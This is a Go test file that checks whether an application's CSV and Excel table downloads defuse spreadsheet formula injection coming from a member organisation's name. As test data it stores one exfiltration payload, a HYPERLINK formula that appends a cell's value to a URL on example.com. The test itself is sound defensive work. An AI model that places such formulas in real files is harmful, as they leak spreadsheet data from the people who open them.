package ui_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// A member's name is the header of its column in the umbrella's tables. A
// name a spreadsheet would run as a formula reaches the project leader's
// Excel as text in every downloaded table, the header row included.
func TestCSVHeadersAreDefused(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	const evil = `=HYPERLINK("http://example.com/?x="&A2,"Osby")`
	if _, err := a.db.Owner.Exec(context.Background(), `UPDATE orgs SET name = $1 WHERE key = '1273'`, evil); err != nil {
		t.Fatal(err)
	}
	c := a.client()
	c.signIn("projektledare@within.demo")
	for _, tbl := range []string{"indikatorer", "andelar", "kaa-lista", "enkat", "kanaler", "utfall", "sysselsattning"} {
		res := c.get("/p/within/paraply/tabell/" + tbl)
		if res.Status != 200 {
			t.Fatalf("%s: status %d", tbl, res.Status)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body, "\uFEFF")))
		r.Comma = ';'
		records, err := r.ReadAll()
		if err != nil || len(records) == 0 {
			t.Fatalf("%s: not CSV (%v):\n%s", tbl, err, res.Body)
		}
		found := false
		for _, rec := range records {
			for _, cell := range rec {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("%s: a cell a spreadsheet would run as a formula: %q", tbl, cell)
				}
				found = found || cell == "'"+evil
			}
		}
		if !found {
			t.Errorf("%s: the member's name is not in the table as text:\n%s", tbl, res.Body)
		}
		// The workbook escapes the same cells, its title and header included.
		x := c.get("/p/within/paraply/tabell/" + tbl + "?format=xlsx")
		f, err := excelize.OpenReader(strings.NewReader(x.Body))
		if err != nil {
			t.Fatalf("%s.xlsx: %v", tbl, err)
		}
		rows, _ := f.GetRows("Projektparaply")
		found = false
		for i, rec := range rows {
			for j, cell := range rec {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("%s.xlsx: a cell a spreadsheet would run as a formula: %q", tbl, cell)
				}
				name, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, _ := f.GetCellFormula("Projektparaply", name); formula != "" {
					t.Errorf("%s.xlsx: %s is the formula %q", tbl, name, formula)
				}
				found = found || cell == "'"+evil
			}
		}
		if !found {
			t.Errorf("%s.xlsx: the member's name is not in the head as text: %q", tbl, rows)
		}
		f.Close()
	}
}
